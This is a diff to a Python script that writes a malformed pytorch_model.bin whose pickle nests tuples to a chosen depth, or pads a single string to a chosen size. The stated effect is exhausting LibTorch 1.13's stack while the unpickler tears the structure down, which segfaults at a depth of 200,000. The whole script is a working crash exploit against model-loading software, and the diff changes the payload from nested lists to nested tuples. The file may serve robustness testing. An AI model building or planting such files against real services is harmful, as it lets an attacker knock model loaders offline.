@@ -1,9 +1,9 @@
 #!/usr/bin/env python3
 """Writes a pytorch_model.bin (torch.save's zip layout) whose data.pkl is hostile.
 
---depth N: lists nested N levels deep (EMPTY_LIST N times, then APPEND N-1
-times), which LibTorch's unpickler builds and then cannot take apart without
-exhausting the stack.
+--depth N: tuples nested N levels deep (MARK N times, then TUPLE N times),
+which LibTorch 1.13's unpickler builds and then cannot take apart without
+exhausting the stack (a segmentation fault at 200,000).
 --bytes N: a pickle of N bytes (one long string), larger than any
 checkpoint's pickle needs.
 The archive is written by torch's own writer, so only the pickle is unusual.
@@ -14,8 +14,8 @@ import struct
 import torch
 
 
-def deep_lists(depth):
-    return b"\x80\x02" + b"]" * depth + b"a" * (depth - 1) + b"."
+def deep_tuples(depth):
+    return b"\x80\x02" + b"(" * depth + b"t" * depth + b"."
 
 
 def long_string(size):
@@ -30,7 +30,7 @@ def main():
     g.add_argument("--depth", type=int)
     g.add_argument("--bytes", type=int)
     a = ap.parse_args()
-    data = deep_lists(a.depth) if a.depth else long_string(a.bytes)
+    data = deep_tuples(a.depth) if a.depth else long_string(a.bytes)
     w = torch._C.PyTorchFileWriter(a.out)
     w.write_record("data.pkl", data, len(data))
     w.write_end_of_file()
